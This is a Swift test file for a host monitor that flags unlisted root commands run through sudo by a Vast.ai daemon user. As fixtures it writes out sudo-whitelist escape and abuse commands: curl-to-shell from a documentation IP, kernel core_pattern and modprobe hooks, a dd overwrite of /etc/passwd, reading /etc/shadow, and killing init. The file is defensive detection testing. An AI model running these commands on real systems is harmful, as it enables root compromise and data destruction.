// SPDX-License-Identifier: Apache-2.0
import RigwatchCore
import RigwatchTestSupport
import XCTest

/// Builds the event sequence of a real process tree: the watched daemon runs
/// sudo, sudo forks and execs the command, the command forks and execs children.
final class ProcessTree {
    let kaalia: UInt32 = 1001
    private(set) var events: [Event] = []
    private var nextPid: UInt32 = 2000
    private var ts: UInt64 = 1_000_000
    private var uids: [UInt32: (UInt32, UInt32)] = [:]
    let daemon: UInt32 = 1500

    init() {
        uids[daemon] = (kaalia, kaalia)
        append(
            .exec(
                ExecEvent(
                    header: header(daemon, ppid: 1), loginUid: noLineage, flags: [], argc: 2, oldPid: daemon,
                    filename: Array("/usr/bin/python3".utf8),
                    args: ExecEvent.joinArgs(["python3", "/var/lib/vastai_kaalia/vast.py"]))))
    }

    private func header(_ pid: UInt32, ppid: UInt32) -> EventHeader {
        let (uid, euid) = uids[pid] ?? (0, 0)
        ts += 1000
        return EventHeader(
            timestampNs: ts, pid: pid, tgid: pid, ppid: ppid, uid: uid, euid: euid, gid: uid, egid: uid,
            lineageUid: kaalia, cgroupId: 42, comm: Comm("x"))
    }

    private func append(_ e: Event) { events.append(e) }

    @discardableResult
    func fork(_ parent: UInt32, ppid: UInt32) -> UInt32 {
        nextPid += 1
        uids[nextPid] = uids[parent]
        append(.fork(ForkEvent(header: header(parent, ppid: ppid), childPid: nextPid, childTgid: nextPid)))
        return nextPid
    }

    func exec(
        _ pid: UInt32, ppid: UInt32, _ argv: [String], path: String? = nil, uid: UInt32? = nil, euid: UInt32? = nil,
        setuid: Bool = false
    ) {
        if let uid { uids[pid] = (uid, euid ?? uid) }
        append(
            .exec(
                ExecEvent(
                    header: header(pid, ppid: ppid), loginUid: noLineage, flags: setuid ? .setuid : [],
                    argc: UInt32(argv.count), oldPid: pid, filename: Array((path ?? argv[0]).utf8),
                    args: ExecEvent.joinArgs(argv))))
    }

    func exit(_ pid: UInt32, ppid: UInt32) {
        append(.exit(ExitEvent(header: header(pid, ppid: ppid), exitCode: 0, signal: 0)))
    }

    /// `sudo argv…` from the daemon; returns the pid of the root child that execs argv.
    @discardableResult
    func sudo(_ argv: [String]) -> UInt32 {
        let sudo = fork(daemon, ppid: 1)
        exec(sudo, ppid: daemon, ["sudo"] + argv, path: "/usr/bin/sudo", uid: kaalia, euid: 0, setuid: true)
        let child = fork(sudo, ppid: daemon)
        exec(child, ppid: sudo, argv, uid: 0)
        return child
    }
}

final class PrivilegedExecTests: XCTestCase {
    private func run(_ tree: ProcessTree, policy: PolicySet? = nil) -> [Alert] {
        let policies =
            policy
            ?? PolicySet.defaultPolicy(watched: [.init(uid: tree.kaalia, name: "vastai_kaalia")], canon: .mergedUsr)
        let engine = Engine(
            config: EngineConfig(watchedUids: [tree.kaalia], userNames: [tree.kaalia: "vastai_kaalia"]),
            detectors: Engine.standardDetectors(policies: policies))
        return tree.events.flatMap(engine.consume)
    }

    private func seedOnly(_ tree: ProcessTree) throws -> PolicySet {
        let rules = try SudoersParser(file: "seed", canon: .mergedUsr)
            .parse(DefaultPolicyData.seedSudoers, users: [.init(uid: tree.kaalia, name: "vastai_kaalia")])
        return PolicySet(name: "seed", rulesByUid: [tree.kaalia: rules["vastai_kaalia"] ?? []], canon: .mergedUsr)
    }

    func testAllowedEntryAndItsDescendantsDoNotAlert() {
        let t = ProcessTree()
        let apt = t.sudo(["/usr/bin/apt-get", "-qq", "install", "-y", "tshark"])
        let dpkg = t.fork(apt, ppid: 2001)
        t.exec(dpkg, ppid: apt, ["/usr/bin/dpkg", "--configure", "-a"])
        XCTAssertEqual(run(t), [])
    }

    func testUnlistedEntryAlertsOnceWithTheChain() throws {
        let t = ProcessTree()
        let sh = t.sudo(["/usr/bin/bash", "-c", "curl x | sh"])
        let curl = t.fork(sh, ppid: 2001)
        t.exec(curl, ppid: sh, ["/usr/bin/curl", "x"])
        let alerts = run(t)
        XCTAssertEqual(
            alerts.map(\.rule), ["unlisted-privileged-exec"], "only the entry alerts, not what runs below it")
        let alert = try XCTUnwrap(alerts.first)
        XCTAssertEqual(alert.subject?.exe, "/usr/bin/bash")
        XCTAssertEqual(alert.subject?.argv, ["/usr/bin/bash", "-c", "curl x | sh"])
        XCTAssertEqual(alert.chain.map(\.exe), ["/usr/bin/bash", "/usr/bin/sudo", "/usr/bin/python3"])
        XCTAssertEqual(alert.chain[1].argv, ["sudo", "/usr/bin/bash", "-c", "curl x | sh"])
        XCTAssertEqual(alert.title, "vastai_kaalia ran an unlisted command as root: /usr/bin/bash -c 'curl x | sh'")
        XCTAssertEqual(alert.evidence.first { $0.0 == "rule_set" }?.1, DefaultPolicyData.name)
        XCTAssertEqual(alert.evidence.first { $0.0 == "cgroup_id" }?.1, "42")
        XCTAssertEqual(alert.evidence.first { $0.0 == "via" }?.1, "sudo /usr/bin/bash -c 'curl x | sh'")
    }

    func testUnwatchedAndUnprivilegedExecsAreNotJudged() {
        let t = ProcessTree()
        let child = t.fork(t.daemon, ppid: 1)
        t.exec(child, ppid: t.daemon, ["/usr/bin/bash", "-c", "x"], uid: t.kaalia)  // not root
        XCTAssertEqual(run(t), [])
    }

    func testWrapperChildIsJudgedAsAnEntry() {
        let t = ProcessTree()
        let timeout = t.sudo(["/usr/bin/timeout", "10", "nvidia-smi", "-pm", "1"])
        let child = t.fork(timeout, ppid: 2001)
        t.exec(child, ppid: timeout, ["nvidia-smi", "-pm", "1"], path: "/usr/bin/nvidia-smi")
        XCTAssertEqual(run(t), [], "timeout running the whitelisted nvidia-smi is fine")

        let bad = ProcessTree()
        let wrapper = bad.sudo(["/usr/bin/timeout", "9", "/bin/sh", "-c", "id", "/usr/bin/nvidia-smi", "-pm", "1"])
        let shell = bad.fork(wrapper, ppid: 2001)
        bad.exec(shell, ppid: wrapper, ["/bin/sh", "-c", "id", "/usr/bin/nvidia-smi", "-pm", "1"])
        bad.exec(shell, ppid: wrapper, ["id"], path: "/usr/bin/id")
        let alerts = run(bad)
        XCTAssertEqual(alerts.map(\.rule), ["unlisted-privileged-exec"])
        XCTAssertEqual(alerts.first?.subject?.exe, "/bin/sh")
    }

    func testGatewayInPlaceExecAndSetuidBinaryAreGateways() {
        // pkexec is setuid-root and execs the target in the same process.
        let t = ProcessTree()
        let p = t.fork(t.daemon, ppid: 1)
        t.exec(p, ppid: t.daemon, ["/usr/bin/pkexec", "/usr/bin/id"], uid: t.kaalia, euid: 0, setuid: true)
        t.exec(p, ppid: t.daemon, ["/usr/bin/id"], uid: 0)
        let alerts = run(t)
        XCTAssertEqual(alerts.map(\.rule), ["unlisted-privileged-exec"])
        XCTAssertEqual(alerts.first?.subject?.exe, "/usr/bin/id")
    }

    func testRootWithoutAGatewayIsJudged() {
        // A lineage process that became root without exec'ing a gateway (a kernel exploit).
        let t = ProcessTree()
        let p = t.fork(t.daemon, ppid: 1)
        t.exec(p, ppid: t.daemon, ["/tmp/x"], uid: 0)
        XCTAssertEqual(run(t).map(\.rule), ["unlisted-privileged-exec"])
    }

    func testEveryWhitelistEscapeAlertsUnderTheDefaultAndTheSeedPolicy() throws {
        // Each escape as the process tree it really makes (tests/Fixtures/data/whitelist-escapes.txt).
        let escapes: [(String, (ProcessTree) -> Void)] = [
            (
                "timeout sh",
                { t in
                    let w = t.sudo(["/usr/bin/timeout", "9", "/bin/sh", "-c", "id", "/usr/bin/nvidia-smi", "-pm", "1"])
                    let c = t.fork(w, ppid: 2001)
                    t.exec(c, ppid: w, ["/bin/sh", "-c", "id", "/usr/bin/nvidia-smi", "-pm", "1"])
                }
            ),
            ("core_pattern", { t in t.sudo(["/usr/sbin/sysctl", "-w", "kernel.core_pattern=|/tmp/x", "%p"]) }),
            ("iptables modprobe", { t in t.sudo(["/usr/sbin/iptables", "--modprobe=/tmp/x", "-L"]) }),
            ("tshark lua", { t in t.sudo(["/usr/bin/tshark", "-X", "lua_script:/tmp/x.lua", "-i", "lo"]) }),
            (
                "dd traversal",
                { t in t.sudo(["/usr/bin/dd", "if=/dev/zero", "of=/var/lib/docker/../../etc/passwd", "count=1"]) }
            ),
            ("kill init", { t in t.sudo(["/usr/bin/kill", "-9", "1"]) }),
            (
                "systemd-run curl|sh",
                { t in
                    let p = t.sudo([
                        "/usr/bin/systemd-run", "--scope", "--unit=vastai_script_updater", "sh", "-c",
                        "curl -s http://203.0.113.7/x | sh",
                    ])
                    t.exec(p, ppid: 2001, ["sh", "-c", "curl -s http://203.0.113.7/x | sh"], path: "/usr/bin/sh")
                }
            ),
        ]
        let lines = try String(
            contentsOfFile: Repo.fixture("traces") + "/../data/whitelist-escapes.txt", encoding: .utf8
        )
        .split(separator: "\n").filter { !$0.hasPrefix("#") && !$0.isEmpty }
        XCTAssertEqual(lines.count, escapes.count, "every line of the escapes file has a scenario here")
        for (name, build) in escapes {
            let t = ProcessTree()
            build(t)
            XCTAssertFalse(run(t).isEmpty, "\(name) must alert under the default policy")
            XCTAssertFalse(run(t, policy: try seedOnly(t)).isEmpty, "\(name) must alert under the seed whitelist")
        }
        // And the allowed entry itself matched the whitelist in the argument-abuse cases.
        let t = ProcessTree()
        t.sudo(["/usr/bin/kill", "-9", "1"])
        XCTAssertEqual(run(t).map(\.rule), [PrivilegedExecDetector.abuseRule])
    }

    func testDaemonCommandsDoNotAlertUnderTheDefaultPolicy() throws {
        // vastai-daemon-sudo-commands.txt with placeholders expanded to realistic values.
        let commands = VastDaemonCommands.sudoArgv
        for argv in commands {
            let t = ProcessTree()
            t.sudo(argv)
            XCTAssertEqual(run(t).map(\.title), [], "\(argv.joined(separator: " "))")
        }
        // The wrappers, with what they really run.
        let journal = ProcessTree()
        let timeout = journal.sudo([
            "/usr/bin/timeout", "--foreground", "3s", "journalctl", "-o", "short-precise", "-r", "-k", "--since",
            "24 hours ago",
        ])
        let j = journal.fork(timeout, ppid: 2001)
        journal.exec(
            j, ppid: timeout, ["journalctl", "-o", "short-precise", "-r", "-k", "--since", "24 hours ago"],
            path: "/usr/bin/journalctl")
        XCTAssertEqual(run(journal), [])

        let nvidia = ProcessTree()
        let t10 = nvidia.sudo(["/usr/bin/timeout", "10", "nvidia-smi", "-pm", "1"])
        let n = nvidia.fork(t10, ppid: 2001)
        nvidia.exec(n, ppid: t10, ["nvidia-smi", "-pm", "1"], path: "/usr/bin/nvidia-smi")
        XCTAssertEqual(run(nvidia), [])

        let update = ProcessTree()
        let script =
            "wget https://s3.amazonaws.com/public.vast.ai/kaalia/scripts/update_scripts.sh && bash update_scripts.sh"
        let p = update.sudo(["/usr/bin/systemd-run", "--scope", "--unit=vastai_script_updater", "sh", "-c", script])
        update.exec(p, ppid: 2001, ["sh", "-c", script], path: "/usr/bin/sh")
        let wget = update.fork(p, ppid: 2001)
        update.exec(
            wget, ppid: p, ["wget", "https://s3.amazonaws.com/public.vast.ai/kaalia/scripts/update_scripts.sh"],
            path: "/usr/bin/wget")
        let bash = update.fork(p, ppid: 2001)
        update.exec(bash, ppid: p, ["bash", "update_scripts.sh"], path: "/usr/bin/bash")
        XCTAssertEqual(run(update), [])

        // Under the seed whitelist alone the "no" lines alert, as they do today.
        let seed = ProcessTree()
        seed.sudo(["/usr/bin/systemctl", "stop", "vastai_tls"])
        XCTAssertEqual(run(seed, policy: try seedOnly(seed)).map(\.rule), ["unlisted-privileged-exec"])
    }

    func testArgumentAbuseClasses() {
        let rules = ArgumentAbuseRules()
        func kinds(_ argv: [String]) -> [String] { rules.inspect(exe: argv[0], argv: argv).map(\.kind.rawValue) }
        XCTAssertEqual(kinds(["/usr/bin/cat", "/sys/../etc/shadow"]), ["path-traversal", "sensitive-path"])
        XCTAssertEqual(kinds(["/usr/bin/tee", "/etc/sudoers.d/evil"]), ["sensitive-path"])
        XCTAssertEqual(kinds(["/usr/bin/sed", "-i", "1e id", "/etc/security/limits.conf"]), ["code-execution-option"])
        XCTAssertEqual(
            kinds(["/usr/bin/sed", "-i", "s/a/b/e", "/etc/security/limits.conf"]), ["code-execution-option"])
        XCTAssertEqual(kinds(["/usr/bin/sed", "-i", "$a x w y", "/etc/security/limits.conf"]), [], "text of a is data")
        XCTAssertEqual(kinds(["/usr/bin/find", "/", "-exec", "sh", ";"]), ["code-execution-option"])
        XCTAssertEqual(
            kinds(["/usr/sbin/sshd", "-p", "22", "-oAuthorizedKeysCommand=/tmp/x"]), ["code-execution-option"])
        XCTAssertEqual(kinds(["/usr/sbin/sysctl", "kernel.modprobe=/tmp/x"]), ["kernel-hook"])
        XCTAssertEqual(kinds(["/usr/sbin/sysctl", "-w", "kernel/core_pattern=|/tmp/x"]), ["kernel-hook"])
        XCTAssertEqual(kinds(["/usr/bin/kill", "-s", "KILL", "-1"]), ["sensor-or-init-tamper"])
        XCTAssertEqual(kinds(["/usr/bin/kill", "-1", "4242"]), [], "-1 before a pid is the signal")
        XCTAssertEqual(kinds(["/usr/bin/pkill", "rigwatch"]), ["sensor-or-init-tamper"])
        XCTAssertEqual(kinds(["/usr/bin/systemctl", "stop", "rigwatch.service"]), ["sensor-or-init-tamper"])
        var withPid = rules
        withPid.sensorPids = [777]
        XCTAssertEqual(withPid.inspect(exe: "/usr/bin/kill", argv: ["kill", "777"]).map(\.kind), [.tamper])
    }
}
